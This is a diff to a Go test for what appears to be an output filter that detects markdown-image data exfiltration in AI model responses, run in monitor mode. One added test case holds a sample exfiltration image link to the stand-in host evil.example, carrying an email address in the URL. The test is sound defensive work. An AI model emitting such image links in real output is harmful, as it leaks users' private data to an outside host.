@@ -178,16 +178,23 @@ func TestOutputImagesWholeAndStreamed(t *testing.T) {
 	}
 }
 
-// Monitor mode counts and changes nothing.
+// Monitor mode counts and changes nothing: each image once, though
+// Responses repeats the text in its done events and final response.
 func TestOutputImagesMonitor(t *testing.T) {
 	p, err := Load([]byte(`{"policy_version":"m-1","mode":"monitor"}`))
 	require.NoError(t, err)
+	two := append(append([]string(nil), imageStreamCases[0].pieces...), " And ![b](https://evil.example/b.png#bob@corp.example)")
 	for _, f := range imageFormats {
-		stream, _ := textStream(f, imageStreamCases[0].pieces...)
-		got, reasons, fail := runImageStream(t, p, f, stream, []int{len(stream) / 2})
-		require.Nil(t, fail)
-		assert.Equal(t, stream, got, f.String())
-		assert.Equal(t, []Reason{ReasonExfilImage}, reasons, f.String())
+		for n, pieces := range [][]string{imageStreamCases[0].pieces, two} {
+			stream, _ := textStream(f, pieces...)
+			got, reasons, fail := runImageStream(t, p, f, stream, []int{len(stream) / 2})
+			require.Nil(t, fail)
+			assert.Equal(t, stream, got, f.String())
+			assert.Len(t, reasons, n+1, f.String())
+			for _, r := range reasons {
+				assert.Equal(t, ReasonExfilImage, r)
+			}
+		}
 	}
 }
 
